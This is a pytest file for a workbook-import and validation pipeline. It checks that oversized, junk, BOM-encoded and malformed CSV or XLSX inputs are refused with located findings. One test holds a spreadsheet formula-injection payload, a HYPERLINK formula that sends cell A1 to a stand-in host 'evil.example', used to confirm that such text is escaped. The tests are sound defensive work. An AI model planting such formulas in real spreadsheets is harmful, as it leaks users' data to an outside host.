"""Bad inputs too large to keep as fixture files (made here), and what the fixture cases keep as text.

Each: a located finding, exit code 1 or 2, and the store's quad set unchanged. The fixture cases under
tests/fixtures/workbooks/bad/ are run by tests/test_workbooks.py.
"""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest
from openpyxl import Workbook
from rdflib import Literal

from graph.namespaces import ID, OA
from graph.pipeline import import_workbook
from graph.report import Report
from graph.store import EvidenceStore
from graph.validate import validate_workbook
from graph.workbook import MAX_ROWS

FIXTURES = Path(__file__).parent / "fixtures" / "workbooks"
GOOD = FIXTURES / "good"
CMOKG = str(Path(sys.executable).with_name("cmokg"))


def copy_good(tmp_path: Path) -> Path:
    folder = tmp_path / "wb"
    shutil.copytree(GOOD, folder)
    return folder


def rows(sheet: str) -> list[list[str]]:
    with open(GOOD / f"{sheet}.csv", encoding="utf-8", newline="") as fh:
        return [list(r) for r in csv.reader(fh)]


def write(folder: Path, sheet: str, table: list[list[str]]) -> None:
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows(table)
    (folder / f"{sheet}.csv").write_text(buf.getvalue(), encoding="utf-8")


def located(report: Report) -> set[tuple[str, str | None, int | None, str | None]]:
    return {(f.severity, f.sheet, f.row, f.column) for f in report.findings}


def test_ten_thousand_rows_csv_refused_quickly(schema_store: EvidenceStore, tmp_path: Path) -> None:
    folder = copy_good(tmp_path)
    table = rows("evidence")
    template = table[1]
    table += [[f"bulk-{i}", *template[1:]] for i in range(10_000)]
    write(folder, "evidence", table)
    before = schema_store.quads()
    started = time.monotonic()
    result = import_workbook(schema_store, [folder], reviewer="r")
    assert time.monotonic() - started < 5
    assert not result.imported and result.report.exit_code() == 2
    assert located(result.report) == {("Violation", "evidence", MAX_ROWS + 2, None)}
    assert schema_store.quads() == before


def test_ten_thousand_rows_xlsx_refused_quickly(schema_store: EvidenceStore, tmp_path: Path) -> None:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.title = "evidence"
    for row in rows("evidence"):
        ws.append(row)
    for i in range(10_000):
        ws.append([f"bulk-{i}", "fx-c1", "fx-study", "quote", "", "", "supports", "", "", ""])
    for sheet in ("sources", "cmocs"):
        other = wb.create_sheet(sheet)
        for row in rows(sheet):
            other.append(row)
    path = tmp_path / "big.xlsx"
    wb.save(path)
    before = schema_store.quads()
    started = time.monotonic()
    result = import_workbook(schema_store, [path], reviewer="r")
    assert time.monotonic() - started < 10
    assert result.report.exit_code() == 2
    assert located(result.report) == {("Violation", "evidence", MAX_ROWS + 2, None)}
    assert schema_store.quads() == before


def test_a_one_megabyte_quote_is_located(schema_store: EvidenceStore, tmp_path: Path) -> None:
    folder = copy_good(tmp_path)
    table = rows("evidence")
    table[2][table[0].index("quote")] = "word " * (1024 * 1024 // 5)
    write(folder, "evidence", table)
    before = schema_store.quads()
    result = import_workbook(schema_store, [folder], reviewer="r")
    assert located(result.report) == {("Violation", "evidence", 3, "quote")}
    assert result.report.exit_code() == 1
    assert len(result.report.findings[0].value or "") < 100  # the report does not carry the megabyte
    assert schema_store.quads() == before


def test_twenty_megabytes_of_junk_exit_2_by_cli(tmp_path: Path, schema_store: EvidenceStore) -> None:
    junk = tmp_path / "junk.xlsx"
    junk.write_bytes(bytes(range(256)) * (20 * 1024 * 1024 // 256))
    started = time.monotonic()
    result = import_workbook(schema_store, [junk], reviewer="r")
    assert time.monotonic() - started < 5
    assert result.report.exit_code() == 2 and located(result.report) == {("Violation", None, None, None)}
    proc = subprocess.run([CMOKG, "validate", str(junk)], capture_output=True, text=True, timeout=120)
    assert proc.returncode == 2
    csv_junk = tmp_path / "csvjunk"
    csv_junk.mkdir()
    (csv_junk / "sources.csv").write_bytes(b"\xff\xfe junk" * (20 * 1024 * 1024 // 8))
    assert import_workbook(schema_store, [csv_junk], reviewer="r").report.exit_code() == 2


def test_formula_injection_strings_are_kept_as_text_and_escaped_in_csv(schema_store: EvidenceStore) -> None:
    folder = FIXTURES / "bad" / "formula-injection-kept-as-text"
    result = validate_workbook([folder], schema_store, reviewer="r")
    assert result.report.conforms and result.extraction is not None
    g = result.extraction.graph
    exact = g.value(ID["evidence/fx-e1/quote"], OA.exact)
    assert exact == Literal('=HYPERLINK("http://evil.example/?leak="&A1,"Click")')
    # in a controlled column it is a violation whose value, exported as CSV, cannot run as a formula
    bad = validate_workbook([FIXTURES / "bad" / "formula-injection-in-controlled-column"], schema_store,
                            reviewer="r").report
    exported = list(csv.DictReader(io.StringIO(bad.to_csv())))
    assert [(r["sheet"], r["row"], r["column"]) for r in exported] == [("evidence", "2", "rigour")]
    assert exported[0]["value"].startswith("'=HYPERLINK")
    assert not any(v and v[0] in "=+-@" for r in exported for v in r.values())


def test_formula_text_cell_in_xlsx_is_read_as_text(schema_store: EvidenceStore) -> None:
    result = validate_workbook([FIXTURES / "bad" / "formula-text-cell-xlsx" / "workbook.xlsx"], schema_store)
    assert result.report.conforms and result.extraction is not None
    assert result.extraction.graph.value(ID["evidence/fx-e1/quote"], OA.exact) == Literal(
        "=1+1 is how the authors wrote it")


def test_bom_csv_gives_the_same_triples_as_plain_csv(schema_store: EvidenceStore) -> None:
    plain = validate_workbook([GOOD], schema_store, reviewer="r").extraction
    bom = validate_workbook([FIXTURES / "bad" / "csv-with-bom"], schema_store, reviewer="r").extraction
    assert plain is not None and bom is not None

    def claims(g):  # type: ignore[no-untyped-def]
        return {t for t in g if not str(t[0]).startswith(str(ID["batch/"]))}

    assert claims(plain.graph) == claims(bom.graph)


@pytest.mark.parametrize("case", ["control-characters", "password-protected-xlsx", "zip-bomb-xlsx",
                                  "merged-cells", "doi-with-spaces", "binary-csv", "non-utf8-csv"])
def test_messages_say_what_to_do(case: str, schema_store: EvidenceStore) -> None:
    folder = FIXTURES / "bad" / case
    inputs = sorted(folder.glob("*.xlsx")) or [folder]
    report = validate_workbook(inputs, schema_store).report
    assert report.exit_code() in (1, 2)
    assert all(len(f.message) > 20 for f in report.findings)
